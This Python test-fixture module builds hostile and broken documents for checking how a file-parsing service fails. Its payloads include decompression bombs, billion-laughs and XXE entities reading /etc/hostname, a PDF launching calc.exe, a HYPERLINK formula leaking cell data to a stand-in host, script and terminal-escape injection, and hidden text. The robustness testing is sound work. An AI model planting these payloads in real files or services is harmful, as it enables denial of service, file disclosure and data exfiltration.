"""Plan files that mean harm or are broken, made by hand byte by byte: no library writes
such PDFs.
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Mapping

from deck import BODY, made
from office_kit import LAUGHS as OPEN_LAUGHS
from office_kit import locked_text, open_text

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
WORDS = b"BT /F1 12 Tf 72 720 Td (Each winter people in Orlford become homeless.) Tj ET"


def pdf(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of these objects, number 1 being the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    last = max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        out += (
            b"%010d 00000 n \n" % places[number]
            if number in places
            else b"0000000000 00000 f \n"
        )
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        last + 1,
        table,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def one_page(
    content: bytes,
    *,
    catalog: bytes = CATALOG,
    font: bytes = FONT,
    more: Mapping[int, bytes] | None = None,
) -> bytes:
    """A PDF of one page; `content` is a whole stream object or what goes into one."""
    return pdf(
        {
            1: catalog,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>>>",
            4: content if content.startswith(b"<<") else stream(content),
            5: font,
            **(more or {}),
        }
    )


def in_unicode(text: str) -> bytes:
    """A page that shows `text`, whatever characters it holds, by a font with a map to
    Unicode.
    """
    codes = {
        character: number + 1 for number, character in enumerate(sorted(set(text)))
    }
    shown = (
        b"BT /F1 12 Tf 72 720 Td <"
        + b"".join(b"%02X" % codes[each] for each in text)
        + b"> Tj ET"
    )
    pairs = b" ".join(
        b"<%02X> <%s>" % (code, character.encode("utf-16-be").hex().encode())
        for character, code in codes.items()
    )
    mapping = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <FF> "
        b"endcodespacerange %d beginbfchar %s endbfchar endcmap end end"
        % (len(codes), pairs)
    )
    return one_page(
        shown,
        font=FONT.replace(b">>", b"/ToUnicode 6 0 R>>"),
        more={6: stream(mapping)},
    )


def many_pages(number: int) -> bytes:
    """Pages that share their content."""
    kids = b" ".join(b"%d 0 R" % (page + 5) for page in range(number))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
    pages = {page_number + 5: page for page_number in range(number)}
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number)
    return pdf({1: CATALOG, 2: tree, 3: stream(WORDS), 4: FONT, **pages})


def bomb(megabytes: int) -> bytes:
    """A content stream of a few kilobytes that unpacks to so many megabytes of blanks."""
    packer = zlib.compressobj(1)
    packed = (
        b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes))
        + packer.flush()
    )
    return one_page(
        stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]")
    )


def form(name: bytes, content: bytes) -> bytes:
    """A form that draws `content` and may draw the form `name`."""
    resources = b"/Resources<</Font<</F1 5 0 R>>/XObject<<" + name + b">>>>"
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]" + resources)


def doubling_forms(depth: int) -> bytes:
    """Each form draws the next one twice."""
    forms = {
        number: form(b"/X %d 0 R" % (number + 1), b"/X Do /X Do ")
        for number in range(6, 6 + depth)
    }
    return one_page(WORDS + b" /X Do", more={**forms, 6 + depth: form(b"", WORDS)})


def encrypted() -> bytes:
    """A sound PDF that needs a password."""
    import pikepdf

    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(one_page(WORDS))) as opened:
        opened.save(
            buffer, encryption=pikepdf.Encryption(owner="o", user="secret", R=6)
        )
    return buffer.getvalue()


def open_to_all() -> bytes:
    """Encrypted with an empty password, as many publishers do: to be read like any
    other.
    """
    import pikepdf

    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(one_page(WORDS))) as opened:
        opened.save(buffer, encryption=pikepdf.Encryption(owner="o", user="", R=4))
    return buffer.getvalue()


def word(
    start: bytes, megabytes: int = 0, end: bytes = b"", *, prolog: bytes = b""
) -> bytes:
    """A Word file whose body is `start`, so many megabytes of blanks, `end`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES)
        package.writestr("_rels/.rels", RELATIONS)
        with package.open("word/document.xml", "w") as part:
            part.write(
                b'<?xml version="1.0"?>'
                + prolog
                + b"<w:document %s><w:body>" % SPACE
                + start
            )
            for _ in range(megabytes):
                part.write(b" " * (1 << 20))
            part.write(end + b"</w:body></w:document>")
    return buffer.getvalue()


SPACE = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" ContentType='
    b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Target="word/document.xml" Type='
    b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (98 + step, b"&%c;" % (97 + step) * 10)
        for step in range(9)
    )
    + b"]>"
)
SPY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'

SEEN = b"BT /F1 12 Tf 72 700 Td (This plan sets out how Orlford keeps its lanes lit.) Tj ET "
HIDDEN = {
    "mode": WORDS.replace(b"BT", b"BT 3 Tr"),
    "white": b"1 1 1 rg " + WORDS,
    "tiny": WORDS.replace(b"/F1 12 Tf", b"/F1 0.01 Tf"),
    "off-page": WORDS.replace(b"72 720 Td", b"-5000 -5000 Td"),
}


def broken_content() -> bytes:
    """Two pages' worth of words, of which the second half was overwritten."""
    lines = b"".join(
        b" BT /F1 9 Tf 72 %d Td (Lane %d is lit at night.) Tj ET" % (700 - n * 9, n * n)
        for n in range(70)
    )
    packed = bytearray(zlib.compress(WORDS + lines))
    packed[len(packed) // 2 :] = bytes(len(packed) - len(packed) // 2)
    return one_page(stream(bytes(packed), b"/Filter/FlateDecode"))


def lines(megabytes: int) -> str:
    """So many megabytes of blanks in a paragraph of an OpenDocument text."""
    return f"<text:p>{' ' * (megabytes << 20)}homeless</text:p>"


SAID = b"Each winter people in Orlford become homeless."
DECK = made(lambda deck: deck.slide(BODY, "Our people", SAID.decode()))
SOUND = one_page(WORDS)
CODED = ""
KILLED = "memory_limit timeout crashed"

# File: its bytes, or what makes them where that takes long, and the reasons that may be
# named for it (blank: it has to be coded).
HOSTILE: Mapping[str, tuple[bytes | Callable[[], bytes], str]] = {
    "sound.pdf": (SOUND, CODED),
    "zero.pdf": (b"", "empty_file"),
    "one-byte.pdf": (b"%", "not_a_pdf"),
    "header-only.pdf": (b"%PDF-1.7\n", "damaged"),
    "cut-in-half.pdf": (SOUND[: len(SOUND) // 2], "damaged"),
    "web-page.pdf": (
        b"<!DOCTYPE html><html><body><h1>404 Not Found</h1></body></html>",
        "not_a_pdf",
    ),
    "picture.pdf": (b"\x89PNG\r\n\x1a\n" + bytes(500), "not_a_pdf"),
    "noise.pdf": (random.Random(7).randbytes(50_000), "not_a_pdf"),
    "zeros.pdf": (bytes(50_000), "not_a_pdf"),
    "after-a-header.pdf": (b"HTTP/1.1 200 OK\r\n\r\n" + SOUND, CODED),
    "encrypted.pdf": (encrypted, "encrypted"),
    "encrypted-openly.pdf": (open_to_all, CODED),
    "tree-of-itself.pdf": (
        pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}),
        "damaged no_pages",
    ),
    "no-pages.pdf": (
        pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[]/Count 0>>"}),
        "damaged no_pages",
    ),
    "circle-of-references.pdf": (
        pdf({1: CATALOG, 2: b"3 0 R", 3: b"2 0 R"}),
        "damaged no_pages",
    ),
    "lying-count.pdf": (
        SOUND.replace(b"/Count 1>>", b"/Count 2147483647>>"),
        "damaged too_many_pages coded",
    ),
    "table-of-itself.pdf": (
        SOUND.replace(
            b"trailer\n<<", b"trailer\n<</Prev %d " % SOUND.rindex(b"xref\n0")
        ),
        CODED,
    ),
    "too-many-pages.pdf": (lambda: many_pages(5_001), "too_many_pages"),
    "bomb.pdf": (lambda: bomb(450), KILLED),
    "doubling-forms.pdf": (doubling_forms(28), KILLED),
    "deep-arrays.pdf": (
        one_page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + WORDS),
        CODED,
    ),
    "deep-dictionaries.pdf": (
        one_page(
            WORDS,
            catalog=CATALOG.replace(
                b">>", b"/D " + b"<</A " * 20_000 + b"1" + b">>" * 20_001
            ),
        ),
        CODED,
    ),
    "launches.pdf": (
        one_page(
            WORDS,
            catalog=CATALOG.replace(b">>", b"/OpenAction<</S/Launch/F(calc.exe)>>>>"),
        ),
        CODED,
    ),
    "formula.pdf": (
        in_unicode('=HYPERLINK("http://x/"&A1) people become homeless'),
        CODED,
    ),
    "at-formula.pdf": (in_unicode("@SUM(1+1) people become homeless"), CODED),
    "script.pdf": (
        in_unicode("<script>alert(1)</script> people become homeless"),
        CODED,
    ),
    "controls.pdf": (in_unicode("people\x1b[2J be\x07come homeless \x9b31m"), CODED),
    "broken-content.pdf": (broken_content(), CODED),
    "blank-page.pdf": (one_page(b"q Q"), "no_text"),
    "no-font-size.pdf": (
        one_page(WORDS.replace(b"/F1 12 Tf 72", b"/F1 1e308 Tf 1e308")),
        "no_text",
    ),
    **{
        f"hidden-{how}.pdf": (one_page(SEEN + words), CODED)
        for how, words in HIDDEN.items()
    },
    "bomb.docx": (
        lambda: word(b"<w:p><w:r><w:t>", 160, b"</w:t></w:r></w:p>"),
        "memory_limit too_many_characters",
    ),
    "laughs.docx": (
        word(b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", prolog=LAUGHS),
        "damaged",
    ),
    "spy.docx": (word(b"<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", prolog=SPY), "damaged"),
    "deep.docx": (
        word(
            b"<w:tbl><w:tr><w:tc>" * 3_000
            + b"<w:p/>"
            + b"</w:tc></w:tr></w:tbl>" * 3_000
        ),
        "damaged",
    ),
    "cut.docx": (word(b"<w:p/>")[:300], "damaged"),
    "not-a-zip.docx": (b"PK\x03\x04" + bytes(500), "damaged"),
    "bomb.odt": (lambda: open_text(lines(160)), "memory_limit"),
    "laughs.odt": (open_text("<text:p>&b;</text:p>", prolog=OPEN_LAUGHS), "damaged"),
    "cut.odt": (open_text("<text:p>homeless</text:p>")[:300], "damaged"),
    "locked.odt": (locked_text(whole=True), "encrypted"),
    "sound.pptx": (DECK, CODED),
    "cut.pptx": (DECK[: len(DECK) // 2], "damaged"),
    "braces.rtf": (lambda: b"{\\rtf1 " + b"{" * 20_000_000, "damaged"),
    "pairs.rtf": (
        lambda: b"{\\rtf1 " + b"{}" * 8_000_000 + b"}",
        "too_many_characters timeout",
    ),
    "cut.rtf": (b"{\\rtf1 " + SAID, "damaged"),
    "picture.rtf": (
        b"{\\rtf1 {\\pict\\bin12 }}}}}}{{{{{{}" + SAID + b"{\\pict 00ff" * 90,
        "damaged",
    ),
    "binary.rtf": (
        b"{\\rtf1 {\\pict\\bin12 }}}}}}{{{{{{}" + SAID + b"{\\pict 00ff}}",
        CODED,
    ),
    "deep.html": (
        b"<html><body>" + b"<div>" * 100_000 + b"people become homeless",
        "damaged",
    ),
    "zeros.txt": (bytes(1_000), "unknown_format"),
    "long.md": (b"homeless " * 600_000, "too_many_characters"),
    "brackets.md": (b"[" * 100_000 + b" people become homeless", CODED),
    "utf-16.txt": ("Each winter people become homeless.".encode("utf-16"), CODED),
}


def hostile_bytes(name: str) -> bytes:
    """The bytes of a hostile file."""
    data, _ = HOSTILE[name]
    return data() if callable(data) else data
